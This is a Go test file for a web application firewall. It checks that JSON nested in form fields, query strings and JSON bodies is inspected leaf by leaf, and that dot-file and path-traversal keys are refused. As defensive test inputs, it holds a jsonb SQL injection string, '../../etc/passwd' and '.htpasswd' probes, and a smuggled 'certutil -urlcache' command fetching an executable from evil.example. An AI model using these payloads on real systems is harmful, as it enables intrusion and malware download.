package waf

import (
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/mamori-waf/mamori/internal/jsondoc"
)

func TestJSONLeafDirectives(t *testing.T) {
	got := jsonLeafDirectives()
	for _, want := range []string{
		`SecRuleUpdateActionById 942550 "t:none,t:mamoriJSONLeaves,t:urlDecodeUni,t:removeWhitespace"` + "\n",
		`SecRuleUpdateActionById 932370 "t:none,t:mamoriJSONLeaves"` + "\n",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing %q in %q", want, got)
		}
	}
	if n := strings.Count(got, "\n"); n != len(jsondoc.Rules) {
		t.Errorf("%d directives for %d rules:\n%s", n, len(jsondoc.Rules), got)
	}
}

// 942550 (CRS and mamori's copies) reads a JSON-document argument leaf by
// leaf, wherever the document is: a form field, a query parameter, a
// string value of a JSON body (issue 11: telemetry beacons), and still
// matches JSON-based SQL injection, in a leaf or not in a document.
func TestJSONDocumentArguments(t *testing.T) {
	flags := `{"feed_version":{"enabled":true,"value":11},"advanced":{"enabled":true,"value":"{}"}}`
	events := `[{"event_action":"show","parameters":"{\"itemId\":4009935,\"key\":\"床垫\"}","url":"https://example.com/"}]`
	sqli := `1' and '{"a":1}'::jsonb @> '{"a":1}'--`
	for _, c := range []struct {
		name, method, target, ctype, body string
		refused                           bool
	}{
		{name: "json_body_nested_document", method: "POST", target: "/e", ctype: "application/json",
			body: `{"events":[{"feature_flags":` + quote(flags) + `}]}`},
		{name: "form_field_document", method: "POST", target: "/a.js", ctype: "application/x-www-form-urlencoded",
			body: "events=" + url.QueryEscape(events)},
		{name: "query_document", method: "GET", target: "/ztbox?data=" + url.QueryEscape(events)},
		{name: "query_name_document", method: "GET", target: "/c?" + url.QueryEscape(events)},
		{name: "sqli_in_a_json_body_leaf", method: "POST", target: "/e", ctype: "application/json",
			body: `{"q":` + quote(sqli) + `}`, refused: true},
		{name: "sqli_in_a_nested_document_leaf", method: "POST", target: "/a.js", ctype: "application/x-www-form-urlencoded",
			body: "events=" + url.QueryEscape(`{"d":`+quote(`{"q":`+quote(sqli)+`}`)+`}`), refused: true},
		{name: "multipart_like_telemetry_document", method: "POST", target: "/report", ctype: "application/x-www-form-urlencoded",
			body: "payload=" + url.QueryEscape(`{"duration":{"static":[{"url":"https://example.com/a.jpeg","method":"get","type":"static"}]}}`)},
		{name: "windows_command_in_a_leaf", method: "POST", target: "/report", ctype: "application/x-www-form-urlencoded",
			body: "payload=" + url.QueryEscape(`{"host":"x & certutil -urlcache -f http://evil.example/a.exe a.exe"}`), refused: true},
		{name: "sqli_form_field", method: "POST", target: "/a.js", ctype: "application/x-www-form-urlencoded",
			body: "q=" + url.QueryEscape(sqli), refused: true},
	} {
		t.Run(c.name, func(t *testing.T) {
			tx := defaultEngine(t).NewTransaction("jsondoc")
			defer tx.Close()
			r := httptest.NewRequest(c.method, c.target, strings.NewReader(c.body))
			if c.ctype != "" {
				r.Header.Set("Content-Type", c.ctype)
			}
			it, err := tx.ProcessRequest(r, "192.0.2.1", 1234)
			if err != nil {
				t.Fatal(err)
			}
			ids := matchIDs(tx.Verdict())
			if (it != nil) != c.refused {
				t.Fatalf("interruption %+v (matches %v), want refused %v", it, ids, c.refused)
			}
		})
	}
}

func quote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`)
	return `"` + r.Replace(s) + `"`
}

// 930120 judges a JSON body's keys as sent, not Coraza's dotted paths
// (json.user.profile held ".profile", a dot file of its list).
func TestJSONBodyKeysForFileAccess(t *testing.T) {
	for _, c := range []struct {
		name, target, ctype, body string
		rule                      int // 0: passes
	}{
		{"nested_profile_key_passes", "/api", "application/json", `{"user":{"profile":{"name":"a"},"history":[{"credentials":"none"}]}}`, 0},
		{"text_plain_json_passes", "/api", "text/plain", `{"config":{"credentials":{"type":"none"}}}`, 0},
		{"dotfile_key_refused", "/api", "application/json", `{"file":{".htaccess":"x"}}`, jsonNameRuleID},
		{"traversal_key_refused", "/api", "application/json", `{"../../etc/passwd":1}`, jsonNameRuleID},
		// Matched as names, as 930120 is with the layers on (issue 11): a
		// key written with dots is a property path, a dot file is not.
		{"dotted_key_passes", "/logstores/track", "application/json", `{"__topic__":"t","__logs__":[{"config.credentials":"default"}]}`, 0},
		{"dotfile_credentials_key_refused", "/api", "application/json", `{"a":{".credentials":"x"}}`, jsonNameRuleID},
		{"query_name_with_json_body_refused", "/api?.htpasswd=1", "application/json", `{"a":1}`, jsonNameRuleID},
		{"form_name_still_crs", "/form", "application/x-www-form-urlencoded", ".profile=1&b=2", 930120},
		{"json_value_still_crs", "/api", "application/json", `{"f":"/etc/passwd"}`, 930120},
	} {
		t.Run(c.name, func(t *testing.T) {
			tx := defaultEngine(t).NewTransaction("jsonkeys")
			defer tx.Close()
			r := httptest.NewRequest("POST", c.target, strings.NewReader(c.body))
			r.Header.Set("Content-Type", c.ctype)
			it, err := tx.ProcessRequest(r, "192.0.2.1", 1234)
			if err != nil {
				t.Fatal(err)
			}
			ids := matchIDs(tx.Verdict())
			if c.rule == 0 {
				if it != nil {
					t.Fatalf("refused: %v", ids)
				}
				return
			}
			if it == nil || !slices.Contains(ids, c.rule) {
				t.Fatalf("interruption %+v, matches %v, want %d", it, ids, c.rule)
			}
		})
	}
}
